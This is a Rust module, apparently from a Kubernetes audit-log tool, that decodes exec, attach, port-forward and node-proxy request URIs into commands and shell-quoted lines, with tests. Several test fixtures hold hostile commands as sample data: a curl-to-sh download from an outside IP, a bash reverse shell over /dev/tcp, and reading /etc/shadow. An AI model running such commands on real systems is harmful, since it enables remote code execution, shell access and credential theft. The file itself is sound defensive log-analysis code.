//! Exec, attach and port-forward requests: the command rebuilt from every `command=` query
//! value (form-decoded: `+` is a space, `%2F` is `/`), and a shell-quoted display line.

use std::borrow::Cow;
use std::fmt::Write as _;

use percent_encoding::percent_decode_str;
use serde::Serialize;

/// What kind of streaming request this was.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum StreamKind {
    /// `pods/exec`
    Exec,
    /// `pods/attach`
    Attach,
    /// `pods/portforward`
    PortForward,
    /// `nodes/proxy` to the kubelet's `exec`, `run`, `attach`, `portForward` endpoints.
    NodeProxy,
}

impl StreamKind {
    pub fn as_str(self) -> &'static str {
        match self {
            StreamKind::Exec => "exec",
            StreamKind::Attach => "attach",
            StreamKind::PortForward => "portforward",
            StreamKind::NodeProxy => "node-proxy",
        }
    }
}

/// The decoded parameters of an exec / attach / port-forward request.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[expect(
    clippy::struct_excessive_bools,
    reason = "the request's own stdin/stdout/stderr/tty parameters, as logged"
)]
pub struct ExecInfo {
    pub kind: StreamKind,
    /// The argv, one element per `command=` value, in order.
    pub command: Vec<String>,
    /// The argv shell-quoted into one readable line.
    pub command_line: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub container: Option<String>,
    pub stdin: bool,
    pub stdout: bool,
    pub stderr: bool,
    pub tty: bool,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub ports: Vec<String>,
    /// For `nodes/proxy`: the kubelet path (`/run/ns/pod/container`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub target: Option<String>,
}

impl ExecInfo {
    /// Decodes a request URI of a `pods/exec|attach|portforward` or a kubelet `nodes/proxy`
    /// request. Returns `None` for any other request.
    pub fn from_request(resource: &str, subresource: &str, request_uri: &str) -> Option<ExecInfo> {
        let kind = match (resource, subresource) {
            ("pods", "exec") => StreamKind::Exec,
            ("pods", "attach") => StreamKind::Attach,
            ("pods", "portforward") => StreamKind::PortForward,
            ("nodes", "proxy") => StreamKind::NodeProxy,
            _ => return None,
        };
        let (path, query) = split_uri(request_uri);
        let mut info = ExecInfo::empty(kind);
        for (key, value) in query_pairs(&query) {
            info.apply_param(&key, value.into_owned());
        }
        if kind == StreamKind::NodeProxy {
            let target = kubelet_target(&path)?;
            info.target = Some(target);
        }
        info.command_line = shell_join(&info.command);
        Some(info)
    }

    /// Builds the info from already-decoded parts (exec options carried in a request body).
    pub fn from_parts(kind: StreamKind, command: Vec<String>, container: Option<String>) -> Self {
        let mut info = ExecInfo::empty(kind);
        info.command_line = shell_join(&command);
        info.command = command;
        info.container = container;
        info
    }

    /// Fills the command and flags from a `PodExecOptions` body (GKE logs exec options in
    /// the request; some exports do too) when the URI carried none.
    pub fn fill_from_options(&mut self, body: &str) {
        let Ok(v) = serde_json::from_str::<serde_json::Value>(body) else {
            return;
        };
        if let Some(cmd) = v.get("command") {
            match cmd {
                serde_json::Value::Array(a) => {
                    self.command = a
                        .iter()
                        .filter_map(|x| x.as_str().map(str::to_owned))
                        .collect();
                }
                serde_json::Value::String(s) => self.command = vec![s.clone()],
                _ => {}
            }
        }
        if self.container.is_none() {
            self.container = v
                .get("container")
                .and_then(|c| c.as_str())
                .map(str::to_owned);
        }
        let flag = |k: &str| v.get(k).and_then(serde_json::Value::as_bool);
        self.stdin = flag("stdin").unwrap_or(self.stdin);
        self.stdout = flag("stdout").unwrap_or(self.stdout);
        self.stderr = flag("stderr").unwrap_or(self.stderr);
        self.tty = flag("tty").unwrap_or(self.tty);
        self.command_line = shell_join(&self.command);
    }

    fn empty(kind: StreamKind) -> ExecInfo {
        ExecInfo {
            kind,
            command: Vec::new(),
            command_line: String::new(),
            container: None,
            stdin: false,
            stdout: false,
            stderr: false,
            tty: false,
            ports: Vec::new(),
            target: None,
        }
    }

    fn apply_param(&mut self, key: &str, value: String) {
        let flag = |v: &str| matches!(v, "true" | "1" | "True" | "TRUE");
        match key {
            "command" => self.command.push(value),
            // The kubelet's /run endpoint splits its one `cmd` at whitespace (Go's
            // strings.Fields): those are the arguments the container ran.
            "cmd" => self
                .command
                .extend(value.split_whitespace().map(str::to_owned)),
            "container" => self.container = Some(value),
            "stdin" | "input" => self.stdin = flag(&value),
            "stdout" | "output" => self.stdout = flag(&value),
            "stderr" | "error" => self.stderr = flag(&value),
            "tty" => self.tty = flag(&value),
            "ports" | "port" => self.ports.push(value),
            _ => {}
        }
    }
}

/// For a `nodes/<name>/proxy/<rest>` URI, the kubelet path when it is one of the endpoints
/// that run code or open streams.
fn kubelet_target(path: &str) -> Option<String> {
    let rest = path.split_once("/proxy/").map(|(_, r)| r)?;
    let endpoint = rest.split('/').next().unwrap_or_default();
    let streaming = ["run", "exec", "attach", "portForward", "cri"];
    streaming
        .contains(&endpoint)
        .then(|| format!("/{}", percent_decode_str(rest).decode_utf8_lossy()))
}

/// Splits a request URI into its path and query. A URI whose `&` survived as the literal
/// text `\u0026` (double-escaped exports) is repaired first.
fn split_uri(uri: &str) -> (Cow<'_, str>, Cow<'_, str>) {
    let uri: Cow<'_, str> = if uri.contains("\\u0026") {
        Cow::Owned(uri.replace("\\u0026", "&"))
    } else {
        Cow::Borrowed(uri)
    };
    match uri {
        Cow::Borrowed(u) => match u.split_once('?') {
            Some((p, q)) => (Cow::Borrowed(p), Cow::Borrowed(q)),
            None => (Cow::Borrowed(u), Cow::Borrowed("")),
        },
        Cow::Owned(u) => match u.split_once('?') {
            Some((p, q)) => (Cow::Owned(p.to_owned()), Cow::Owned(q.to_owned())),
            None => (Cow::Owned(u.clone()), Cow::Borrowed("")),
        },
    }
}

/// `application/x-www-form-urlencoded` pairs, in order: `+` is a space, `%XX` a byte.
pub fn query_pairs(query: &str) -> impl Iterator<Item = (String, Cow<'_, str>)> {
    query.split('&').filter(|p| !p.is_empty()).map(|pair| {
        let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
        (form_decode(k).into_owned(), form_decode(v))
    })
}

/// Decodes one form-encoded value.
pub fn form_decode(s: &str) -> Cow<'_, str> {
    if !s.contains(['+', '%']) {
        return Cow::Borrowed(s);
    }
    let spaced = s.replace('+', " ");
    Cow::Owned(percent_decode_str(&spaced).decode_utf8_lossy().into_owned())
}

/// Decodes a whole request URI for display and full-text search: the path percent-decoded
/// and the query form-decoded.
pub fn decode_uri(uri: &str) -> String {
    let (path, _) = split_uri(uri);
    let mut out = percent_decode_str(&path).decode_utf8_lossy().into_owned();
    let query = decode_query(uri);
    if !query.is_empty() {
        out.push('?');
        out.push_str(&query);
    }
    out
}

/// The query of a request URI decoded as [`decode_uri`] decodes it (`k=v&…`), without `?`.
pub fn decode_query(uri: &str) -> String {
    let mut out = String::new();
    decode_query_into(uri, &mut out);
    out
}

/// [`decode_query`], appended to `out`.
pub fn decode_query_into(uri: &str, out: &mut String) {
    decode_pairs_into(uri, out, |_| true);
}

/// Query parameters every client sends to page through lists and hold watches open: in
/// nearly every request of a busy cluster, searched by no one (a watch is `verb:watch`).
const CLIENT_PLUMBING: [&str; 9] = [
    "allowWatchBookmarks",
    "continue",
    "limit",
    "resourceVersion",
    "resourceVersionMatch",
    "sendInitialEvents",
    "timeout",
    "timeoutSeconds",
    "watch",
];

/// The query as an event's search text holds it: [`decode_query`] without the
/// [`CLIENT_PLUMBING`] parameters (their words were a thirtieth of ingest).
pub fn search_query_into(uri: &str, out: &mut String) {
    decode_pairs_into(uri, out, |k| !CLIENT_PLUMBING.contains(&k));
}

/// The query's `k=v` pairs whose key (as written) `keep` takes, form-decoded, `&` between.
fn decode_pairs_into(uri: &str, out: &mut String, keep: impl Fn(&str) -> bool) {
    let (_, query) = split_uri(uri);
    let start = out.len();
    for pair in query.split('&').filter(|p| !p.is_empty()) {
        let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
        if !keep(k) {
            continue;
        }
        if out.len() > start {
            out.push('&');
        }
        out.push_str(&form_decode(k));
        out.push('=');
        out.push_str(&form_decode(v));
    }
}

/// Joins an argv into one line a shell would split back into the same argv.
pub fn shell_join(argv: &[String]) -> String {
    let mut out = String::new();
    for (i, arg) in argv.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        shell_quote_into(arg, &mut out);
    }
    out
}

/// Quotes one argument: bare when safe, `'single quotes'` when printable, `$'ANSI-C'`
/// (with `\n`, `\xHH`) when it holds control characters, so none reach a terminal raw.
pub fn shell_quote_into(arg: &str, out: &mut String) {
    let safe = |c: char| c.is_ascii_alphanumeric() || "_-./=:,@%+^".contains(c);
    if !arg.is_empty() && arg.chars().all(safe) {
        out.push_str(arg);
    } else if arg.chars().any(char::is_control) {
        out.push_str("$'");
        for c in arg.chars() {
            match c {
                '\n' => out.push_str("\\n"),
                '\t' => out.push_str("\\t"),
                '\r' => out.push_str("\\r"),
                '\'' => out.push_str("\\'"),
                '\\' => out.push_str("\\\\"),
                c if c.is_control() => {
                    let mut buf = [0u8; 4];
                    for b in c.encode_utf8(&mut buf).bytes() {
                        let _ = write!(out, "\\x{b:02x}");
                    }
                }
                c => out.push(c),
            }
        }
        out.push('\'');
    } else {
        out.push('\'');
        out.push_str(&arg.replace('\'', "'\\''"));
        out.push('\'');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_query_decoded_into_a_buffer_is_appended_as_decoded_alone() {
        for uri in [
            "/api/v1/pods",
            "/api/v1/pods?",
            "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=echo+hi%21&stdin=true",
            "/api/v1/pods?&&watch=1&x&=y",
            "/api/v1/pods?labelSelector=app%3Dweb\\u0026limit=500",
        ] {
            let mut text = String::from("before ");
            decode_query_into(uri, &mut text);
            assert_eq!(text, format!("before {}", decode_query(uri)), "{uri}");
        }
        assert_eq!(
            decode_query("/p?command=echo+hi%21&stdin=true&x"),
            "command=echo hi!&stdin=true&x="
        );
    }

    #[test]
    fn the_search_text_leaves_out_the_paging_and_watch_parameters_only() {
        let uri = "/api/v1/namespaces/a/pods?allowWatchBookmarks=true&labelSelector=app%3Dweb&resourceVersion=123&timeout=9m&timeoutSeconds=540&watch=true&limit=500&continue=abc&fieldSelector=spec.nodeName%3Dworker-3&dryRun=All";
        let mut text = String::new();
        search_query_into(uri, &mut text);
        assert_eq!(
            text,
            "labelSelector=app=web&fieldSelector=spec.nodeName=worker-3&dryRun=All"
        );
        let mut text = String::new();
        search_query_into(
            "/api/v1/namespaces/a/pods/b/exec?command=sh&stdin=true",
            &mut text,
        );
        assert_eq!(text, "command=sh&stdin=true");
        // Display keeps every parameter.
        assert!(decode_query(uri).contains("resourceVersion=123"));
    }

    fn exec(uri: &str) -> ExecInfo {
        ExecInfo::from_request("pods", "exec", uri).unwrap()
    }

    #[test]
    fn plus_is_space_and_percent_decodes() {
        let e =
            exec("/api/v1/namespaces/d/pods/p/exec?command=echo+hi%20there&command=%2Fbin%2Fsh");
        assert_eq!(e.command, vec!["echo hi there", "/bin/sh"]);
    }

    #[test]
    fn every_command_value_is_kept_in_order() {
        let uri = "/api/v1/namespaces/shop/pods/web-0/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F203.0.113.50%2Fx.sh+%7C+sh&container=web&stdin=true&stdout=true&tty=true";
        let e = exec(uri);
        assert_eq!(
            e.command,
            vec!["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"]
        );
        assert_eq!(
            e.command_line,
            "sh -c 'curl -s http://203.0.113.50/x.sh | sh'"
        );
        assert_eq!(e.container.as_deref(), Some("web"));
        assert!(e.stdin && e.stdout && e.tty && !e.stderr);
    }

    #[test]
    fn literal_json_escaped_ampersand_is_repaired() {
        let e =
            exec("/api/v1/namespaces/d/pods/p/exec?command=id\\u0026container=c\\u0026stdout=true");
        assert_eq!(e.command, vec!["id"]);
        assert_eq!(e.container.as_deref(), Some("c"));
        assert!(e.stdout);
    }

    #[test]
    fn reverse_shell_quotes_back_to_same_words() {
        let argv = vec![
            "bash".to_owned(),
            "-c".to_owned(),
            "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1".to_owned(),
        ];
        assert_eq!(
            shell_join(&argv),
            "bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"
        );
    }

    #[test]
    fn quotes_single_quotes_and_control_chars() {
        assert_eq!(shell_join(&["it's".to_owned()]), r"'it'\''s'");
        assert_eq!(shell_join(&["a\x1b[31mb".to_owned()]), r"$'a\x1b[31mb'");
        assert_eq!(shell_join(&[String::new()]), "''");
    }

    #[test]
    fn attach_and_portforward() {
        let a = ExecInfo::from_request(
            "pods",
            "attach",
            "/api/v1/namespaces/d/pods/p/attach?container=c&stdin=true&tty=true",
        )
        .unwrap();
        assert!(a.command.is_empty() && a.stdin && a.tty);
        let p = ExecInfo::from_request(
            "pods",
            "portforward",
            "/api/v1/namespaces/d/pods/db-0/portforward?ports=5432",
        )
        .unwrap();
        assert_eq!(p.ports, vec!["5432"]);
    }

    #[test]
    fn regression_node_proxy_run_command_was_one_quoted_word() {
        let n = ExecInfo::from_request(
            "nodes",
            "proxy",
            "/api/v1/nodes/node-1/proxy/run/kube-system/kube-proxy-x/kube-proxy?cmd=cat+%2Fetc%2Fshadow",
        )
        .unwrap();
        assert_eq!(n.kind, StreamKind::NodeProxy);
        assert_eq!(n.command, vec!["cat", "/etc/shadow"]);
        assert_eq!(n.command_line, "cat /etc/shadow");
        assert_eq!(
            n.target.as_deref(),
            Some("/run/kube-system/kube-proxy-x/kube-proxy")
        );
        assert!(
            ExecInfo::from_request("nodes", "proxy", "/api/v1/nodes/n/proxy/metrics").is_none()
        );
    }

    #[test]
    fn other_requests_are_not_exec() {
        assert!(ExecInfo::from_request("pods", "log", "/api/v1/namespaces/d/pods/p/log").is_none());
    }

    #[test]
    fn decode_uri_for_search() {
        assert_eq!(
            decode_uri("/api/v1/namespaces/d/pods/p/exec?command=%2Fbin%2Fbash&tty=true"),
            "/api/v1/namespaces/d/pods/p/exec?command=/bin/bash&tty=true"
        );
    }
}
